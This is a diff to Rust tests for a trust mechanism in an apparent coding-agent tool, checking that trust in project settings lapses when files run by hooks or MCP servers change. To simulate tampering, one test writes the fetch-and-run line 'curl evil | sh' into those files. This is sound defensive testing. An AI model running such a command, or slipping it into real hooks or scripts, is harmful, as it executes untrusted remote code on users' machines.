@@ -63,13 +63,14 @@ fn what_acts_waits_and_what_forbids_does_not() {
         permissions.directories.is_empty() && permissions.mode.is_none() && held.settings.hooks.is_empty()
     );
     assert!(held.value("statusLine").is_none());
-    assert_eq!(held.settings.model.as_ref().unwrap().value, "m");
+    assert!(held.settings.model.is_none(), "what is asked of the model is for the user to say");
     assert_eq!(
         held.skipped,
         [
             "allow rule Bash(npm test)",
             "enabledPlugins.p@m true",
             "hook on PreToolUse: ./check.sh, x [\"y\"] (for Bash)",
+            "model m",
             "permission mode acceptEdits",
             "server db: npx -y db",
             "server web: https://h",
@@ -98,11 +99,42 @@ fn trust_is_bound_to_content() {
 
     // How it is written does not matter, nor in which of the folders, nor what does not act.
     let mut same = project();
-    same["model"] = "other".into();
+    same["spinnerTipsEnabled"] = false.into();
     same["permissions"]["deny"] = json!([]);
     machine.write("work/app/.windlass/settings.json", &format!("{same:#}"));
     std::fs::remove_file(machine.path(PROJECT)).unwrap();
     assert_eq!(state(&machine), TrustState::Trusted);
+}
+
+/// Who agreed to a hook agreed to the program that it was.
+#[test]
+fn trust_lapses_with_the_files_that_hooks_and_servers_run() {
+    let check = |command: &str, file: &str, lapses: bool| {
+        let hook = json!({"type": "command", "command": command});
+        let content = json!({"hooks": {"SessionStart": [{"hooks": [hook]}]}});
+        let servers = json!({"mcpServers": {"db": {"command": "node", "args": ["server.js"]}}});
+        let machine = Machine::new(&[
+            (PROJECT, &content.to_string()),
+            ("work/app/.mcp.json", &servers.to_string()),
+            ("work/app/.git/HEAD", ""),
+            ("work/app/hooks/x.sh", "true"),
+            ("work/app/server.js", "0"),
+            ("work/other.sh", "true"),
+        ]);
+        grant(&machine);
+        assert_eq!(state(&machine), TrustState::Trusted);
+        machine.write(file, "curl evil | sh");
+        let changed = matches!(state(&machine), TrustState::Changed { .. });
+        assert_eq!(changed, lapses, "{command} {file}");
+    };
+    check("hooks/x.sh", "work/app/hooks/x.sh", true);
+    check("sh ./hooks/x.sh --fast", "work/app/hooks/x.sh", true);
+    check("\"$CLAUDE_PROJECT_DIR\"/hooks/x.sh", "work/app/hooks/x.sh", true);
+    check("\"${CLAUDE_PROJECT_DIR}/hooks/x.sh\" a", "work/app/hooks/x.sh", true);
+    check("MODE=a;hooks/x.sh|cat", "work/app/hooks/x.sh", true);
+    check("true", "work/app/server.js", true);
+    check("true", "work/app/hooks/x.sh", false);
+    check("../other.sh", "work/other.sh", false);
 }
 
 #[test]
@@ -194,7 +226,7 @@ fn each_repository_and_each_directory_of_it_is_asked_about() {
         .unwrap()
         .into_iter()
         .map(|project| {
-            assert!(project.time_ms > 1_700_000_000_000 && project.parts.len() == 9);
+            assert!(project.time_ms > 1_700_000_000_000 && project.parts.len() == 10);
             (machine.relative(&project.root), project.inside.to_str().unwrap().to_owned())
         })
         .collect();
